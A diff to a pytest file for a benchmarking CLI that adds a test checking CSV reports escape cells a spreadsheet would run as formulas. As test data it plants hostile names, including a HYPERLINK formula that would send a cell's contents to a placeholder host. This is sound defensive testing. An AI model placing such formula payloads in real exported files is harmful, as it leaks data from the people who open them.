@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 
 from overheadbench.cli import main
+from overheadbench.report.spreadsheet import csv_text
 
 GOLDEN = Path(__file__).parent / "golden"
 
@@ -43,6 +44,24 @@ def test_compare_prints_the_table_and_fails_above_the_threshold(storage: Path, c
     assert "REGRESSION tests/test_mw.py::test_retry: overhead 12.0% -> 31.5% (+17.4%" in err
     assert "regressed" in out and "same" in out  # the outcome column, at the threshold
     assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "25"]) == 0
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(storage: Path, capsys) -> None:
+    """Test names and groups come from a downloaded artifact: none may become a live formula."""
+    path = storage / "0002_new.json"
+    data = json.loads(path.read_text())
+    hostile = ['=HYPERLINK("http://x.invalid/?"&A1)', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd"]
+    for result, name in zip(data["results"], hostile, strict=False):
+        result["nodeid"] = name
+        result["group"] = name
+    path.write_text(json.dumps(data))
+    assert main(["--storage", str(storage), "report", "new", "--format", "csv"]) == 0
+    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    quoted = {"'" + name for name in hostile}
+    assert len(quoted & set(cells)) >= 2  # the names are there, as text
+    # the checks format goes through the same writer: its cells alike, numbers left numbers
+    assert csv_text([("=1+1", -0.5, 3, "a-b", "")]) == "'=1+1,-0.5,3,a-b,\n"
 
 
 def test_a_corrupt_run_is_exit_code_2_with_the_file_named(storage: Path, capsys) -> None:
